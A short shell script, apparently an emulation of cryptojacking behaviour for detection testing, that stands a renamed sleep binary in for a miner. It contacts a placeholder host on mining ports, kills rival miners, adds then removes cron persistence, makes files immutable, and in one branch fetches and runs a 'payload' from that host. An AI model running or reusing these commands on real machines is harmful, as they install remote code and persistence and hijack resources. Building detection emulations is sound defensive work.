# Somebody else's coins.
c=198.51.100.66; d=/tmp/.X11-$v; mkdir -p $d; cp "$(readlink -f /bin/sleep)" $d/kdevtmpfsi 2>/dev/null; chmod 755 $d/kdevtmpfsi
pool() { i=0; while [ $i -lt $1 ]; do echo '{"method":"login"}' | nc -w 1 $c $2; sleep 0.$3; i=$((i + 1)); done; }
case $((v % 4)) in
0) pkill -f xmrig; pkill -f kinsing; (nice -n 19 $d/kdevtmpfsi 1 &); pool 8 3333 2; mkdir -p /etc/cron.d; echo "*/10 * * * * root $d/kdevtmpfsi" >/etc/cron.d/kd; rm -f /etc/cron.d/kd ;;
1) if have python3; then python3 -c "
import socket,hashlib,time
for i in range(10):
    s=socket.create_connection(('$c',8333)); s.sendall(b'{}'); s.recv(99); s.close()
    for j in range(20000): hashlib.sha256(b'%d'%j).digest()
    time.sleep(.15)"; else pool 10 8333 15; fi ;;
2) cd $d && { wget -q -O x http://$c/payload || curl -s -o x http://$c/payload; }; cp x kinsing; chmod 777 x kinsing; (./kinsing 1 &); ./x 0.2; pool 6 3333 1; ps ax | grep -v grep | grep -c miner; sysctl -n vm.nr_hugepages ;;
3) sh -c "exec nice -n 19 sh -c 'i=0; while [ \$i -lt 3000 ]; do i=\$((i+1)); done'" & pool 7 3333 3; for p in /proc/[0-9]*; do readlink $p/exe; done; chattr +i $d/kdevtmpfsi; (crontab -l; echo "* * * * * $d/kdevtmpfsi") | crontab -; crontab -r ;;
esac </dev/null >/dev/null 2>&1
#--- cleanup
d=/tmp/.X11-$v; cd /; chattr -i $d/kdevtmpfsi 2>/dev/null; rm -rf $d
